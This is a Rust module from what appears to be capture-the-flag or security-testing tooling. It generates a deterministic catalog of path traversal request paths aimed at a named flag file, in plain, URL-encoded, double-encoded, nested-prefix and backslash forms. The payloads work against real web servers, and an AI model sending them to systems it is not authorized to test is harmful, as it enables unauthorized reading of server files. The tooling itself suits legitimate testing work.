//! Deterministic traversal payload catalog.

use serde::{Deserialize, Serialize};

/// Payload family, ordered by how often each one wins in the field: plain
/// relative segments dominate by a huge margin, encoded and nested bypasses
/// are rare, backslashes are a long shot kept for completeness.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum PayloadFamily {
    Plain,
    UrlEncoded,
    DoubleEncoded,
    NestedPrefix,
    Backslash,
}

impl PayloadFamily {
    pub fn as_str(&self) -> &'static str {
        match self {
            PayloadFamily::Plain => "plain",
            PayloadFamily::UrlEncoded => "url-encoded",
            PayloadFamily::DoubleEncoded => "double-encoded",
            PayloadFamily::NestedPrefix => "nested-prefix",
            PayloadFamily::Backslash => "backslash",
        }
    }
}

/// One request-line path, transmitted byte-for-byte.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Payload {
    #[serde(with = "escaped_bytes")]
    pub raw_path: Vec<u8>,
    pub family: PayloadFamily,
    pub depth: u32,
}

impl Payload {
    /// Escaped form for reports and logs.
    pub fn printable(&self) -> String {
        escaped_bytes::escape(&self.raw_path)
    }
}

/// Journal records carry the payload as an escaped string rather than a
/// byte array, so the exact wire bytes stay readable and greppable.
mod escaped_bytes {
    use serde::{Deserialize, Deserializer, Serializer};

    pub fn escape(bytes: &[u8]) -> String {
        let mut out = String::with_capacity(bytes.len());
        for &b in bytes {
            match b {
                b'\\' => out.push_str("\\\\"),
                0x20..=0x7e => out.push(b as char),
                _ => out.push_str(&format!("\\x{b:02x}")),
            }
        }
        out
    }

    fn unescape(text: &str) -> Option<Vec<u8>> {
        let mut out = Vec::with_capacity(text.len());
        let mut chars = text.chars();
        while let Some(c) = chars.next() {
            if c != '\\' {
                let mut buf = [0u8; 4];
                out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                continue;
            }
            match chars.next()? {
                '\\' => out.push(b'\\'),
                'x' => {
                    let hi = chars.next()?.to_digit(16)?;
                    let lo = chars.next()?.to_digit(16)?;
                    out.push((hi * 16 + lo) as u8);
                }
                _ => return None,
            }
        }
        Some(out)
    }

    pub fn serialize<S: Serializer>(bytes: &[u8], ser: S) -> Result<S::Ok, S::Error> {
        ser.serialize_str(&escape(bytes))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(de: D) -> Result<Vec<u8>, D::Error> {
        let text = String::deserialize(de)?;
        unescape(&text).ok_or_else(|| serde::de::Error::custom("bad escaped byte string"))
    }
}

const MAX_DEPTH: u32 = 12;

/// The ordered catalog for a given flag file name. Deterministic: the same
/// name always yields the same payload sequence.
pub fn payload_catalog(flag_name: &str) -> Vec<Payload> {
    assert!(!flag_name.is_empty(), "flag name must be non-empty");
    let mut catalog = Vec::new();
    let push = |catalog: &mut Vec<Payload>, family, depth, path: String| {
        catalog.push(Payload {
            raw_path: path.into_bytes(),
            family,
            depth,
        });
    };
    for d in 1..=MAX_DEPTH {
        let hops = "../".repeat(d as usize);
        push(
            &mut catalog,
            PayloadFamily::Plain,
            d,
            format!("/{hops}{flag_name}"),
        );
    }
    for d in 1..=MAX_DEPTH {
        let hops = "%2e%2e%2f".repeat(d as usize);
        push(
            &mut catalog,
            PayloadFamily::UrlEncoded,
            d,
            format!("/{hops}%2f{flag_name}"),
        );
    }
    for d in 1..=MAX_DEPTH {
        let hops = "%252e%252e%252f".repeat(d as usize);
        push(
            &mut catalog,
            PayloadFamily::DoubleEncoded,
            d,
            format!("/{hops}{flag_name}"),
        );
    }
    for d in 1..=MAX_DEPTH {
        let hops = "../".repeat(d as usize);
        push(
            &mut catalog,
            PayloadFamily::NestedPrefix,
            d,
            format!("/images/{hops}{flag_name}"),
        );
    }
    for d in 1..=MAX_DEPTH {
        let hops = "..\\".repeat(d as usize);
        push(
            &mut catalog,
            PayloadFamily::Backslash,
            d,
            format!("/{hops}{flag_name}"),
        );
    }
    catalog
}
